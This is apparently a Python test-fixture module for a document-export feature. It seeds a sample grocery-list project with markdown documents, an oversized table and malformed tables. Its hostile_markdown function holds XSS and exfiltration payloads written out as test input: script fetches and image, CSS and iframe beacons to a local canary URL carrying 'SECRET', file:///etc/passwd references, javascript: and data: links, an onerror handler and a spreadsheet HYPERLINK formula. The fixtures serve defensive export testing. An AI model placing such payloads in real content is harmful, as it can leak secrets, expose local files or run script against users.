"""Sample documents for export tests: a realistic package, hostile content, a seeder."""

from __future__ import annotations

import uuid
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

from sqlalchemy.ext.asyncio import AsyncSession

from jeex.db.session import Database
from jeex.documents.models import DocumentVersion
from jeex.exports.bundle import ExportBundle, build_bundle
from jeex.projects.models import Project
from jeex.tenants.service import Principal
from support.factories import create_project

WHEN = datetime(2026, 11, 1, 9, 30, tzinfo=UTC)
CANARY_TEMPLATE = "http://127.0.0.1:{port}"
PASSWD_MARKER = "root:x:0:0"

ABOUT = """# About: Family Lists

## Problem

Families forget groceries. Shared notes get lost between phones.

## Audience

Busy parents with two or more children.

## Value

One list that everyone edits live. Fewer trips to the shop.

## Scope

- Shared lists
- **Offline** editing with `sync`

## Key facts

- Lists sync in real time
"""

SPECS = """# Engineering standards

## Coding

1. Type everything.
2. Review every change.

| Area | Rule | Owner |
| --- | :---: | ---: |
| Tests | 90 % coverage | QA |
| Style | ruff | Dev |
"""

ARCHITECTURE = """# Architecture

## Overview

A FastAPI service with PostgreSQL. Workers run jobs.

## Diagrams

```mermaid
graph TD
  A[Client] --> B[API]
```

```python
def main() -> None:
    print("hello")
```
"""

OVERVIEW = """# Implementation plan

| # | Epic | Goal |
|---|------|------|
| 1 | Infrastructure | Set up |
"""


def epic_content(number: int, title: str, tasks: Sequence[str]) -> str:
    task_lines = "\n".join(f"{i}. {task}" for i, task in enumerate(tasks, 1))
    return (
        f"# {title}\n\n## Goal\n\nDeliver {title.lower()} for users.\n\n## Scope\n\nOnly this.\n\n"
        f"## Tasks\n\n{task_lines}\n\n## Acceptance criteria\n\n- It works.\n\n"
        "## Dependencies and risks\n\nNone.\n"
    )


def hostile_markdown(port: int) -> str:
    """Everything a model could write to fetch, run or embed something."""
    canary = CANARY_TEMPLATE.format(port=port)
    return f"""# Hostile <script>alert('title')</script>

## Raw HTML

<script>fetch("{canary}/script?q=SECRET")</script>
<img src="{canary}/raw-img?q=SECRET">
<link rel="stylesheet" href="{canary}/raw-link.css">
<link rel="attachment" href="file:///etc/passwd">
<style>@import url("{canary}/import.css"); body {{ background: url("{canary}/bg.png") }}</style>
<iframe src="{canary}/frame"></iframe>
<svg><image href="{canary}/svg.png"/></svg>
<object data="file:///etc/passwd"></object>

## Markdown

![exfil]({canary}/md-img?q=SECRET)
![passwd](file:///etc/passwd)
![urandom](file:///dev/urandom)
[click me](javascript:alert(1))
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[file link](file:///etc/passwd)
<a href="javascript:alert(2)" onclick="alert(3)">raw link</a>

| col <b>bold</b> | ![t]({canary}/table-img) |
| --- | --- |
| =HYPERLINK("{canary}/xlsx") | <img src=x onerror=alert(1)> |
"""


def huge_table(rows: int = 1500, columns: int = 40) -> str:
    header = "| " + " | ".join(f"c{i}" for i in range(columns)) + " |"
    divider = "|" + "---|" * columns
    body = "\n".join(
        "| " + " | ".join(f"r{r}c{c}" for c in range(columns)) + " |" for r in range(rows)
    )
    return f"# Huge\n\n## Table\n\n{header}\n{divider}\n{body}\n"


MALFORMED_TABLES = """# Malformed

| a | b |
|---|---|
| 1 | 2 | 3 | 4 |
| only one
| | |

|---|---|
| no header | x |

| unclosed | `code | pipe` |
|----------|---
| \\| escaped | ok |
"""


@dataclass
class Doc:
    """One document to seed."""

    document_type: str
    content: str
    epic_number: int = 0
    version: int = 1
    title: str = ""
    metadata: dict[str, Any] = field(default_factory=dict)


def standard_docs(epics: int = 3) -> list[Doc]:
    titles = ["Infrastructure and project setup", "Shared lists", "Sync engine", "Sharing",
              "Notifications", "Billing", "Admin", "Reports", "Search", "Accounts",
              "Testing and quality assurance"]  # fmt: skip
    docs = [
        Doc("about", ABOUT, title="About: Family Lists",
            metadata={"key_facts": ["Lists sync in real time"]}),
        Doc("specs", SPECS, title="Engineering standards"),
        Doc("architecture", ARCHITECTURE, title="Architecture",
            metadata={"key_facts": ["FastAPI and PostgreSQL"]}),
    ]  # fmt: skip
    records = []
    for number in range(1, epics + 1):
        title = titles[(number - 1) % len(titles)]
        record = {"number": number, "title": title, "slug": f"epic-{number}",
                  "goal": f"Deliver {title.lower()}", "depends_on": list(range(1, number)),
                  "estimate_days": number + 2}  # fmt: skip
        records.append(record)
        tasks = [f"Task {number}.{i}" for i in range(1, 4)]
        docs.append(Doc("plan_epic", epic_content(number, title, tasks), epic_number=number,
                        title=title, metadata={"epic": record}))  # fmt: skip
    docs.insert(3, Doc("plan_overview", OVERVIEW, title="Implementation plan",
                       metadata={"epics": records}))  # fmt: skip
    return docs


def _row(project: Project, doc: Doc, index: int) -> DocumentVersion:
    return DocumentVersion(
        id=uuid.uuid4(),
        tenant_id=project.tenant_id,
        project_id=project.id,
        run_id=None,
        document_type=doc.document_type,
        epic_number=doc.epic_number,
        title=doc.title or doc.document_type,
        version=doc.version,
        content=doc.content,
        metadata_={
            "model": "scripted-model",
            "template": doc.document_type,
            "template_version": "1.0",
            "confidence": 0.75,
            **doc.metadata,
        },  # fmt: skip
        created_by=None,
        created_at=WHEN + timedelta(minutes=index),
        updated_at=WHEN + timedelta(minutes=index),
    )


def make_bundle(
    docs: Sequence[Doc] | None = None, *, name: str = "Family Lists", slug: str = "family-lists"
) -> ExportBundle:
    """A bundle built from transient rows: renderers tested without a database."""
    project = Project(
        id=uuid.uuid4(), tenant_id=uuid.uuid4(), name=name, slug=slug,
        idea="A shared grocery list app for families", audience="busy parents",
        language="en", status="ready", current_step=4, metadata_={},
    )  # fmt: skip
    rows = [_row(project, doc, i) for i, doc in enumerate(docs or standard_docs())]
    return build_bundle(project, rows)


async def seed_project(
    session: AsyncSession,
    principal: Principal,
    docs: Sequence[Doc] | None = None,
    *,
    name: str = "Family Lists",
) -> Project:
    """A project with documents, written through the tenant session (RLS applies)."""
    project = await create_project(session, tenant=principal, name=name)
    for index, doc in enumerate(standard_docs() if docs is None else docs):
        session.add(_row(project, doc, index))
    await session.flush()
    return project


async def seed_committed(
    db: Database,
    principal: Principal,
    docs: Sequence[Doc] | None = None,
    *,
    name: str = "Family Lists",
) -> Project:
    async with db.tenant_session(principal.tenant_id) as session:
        return await seed_project(session, principal, docs, name=name)
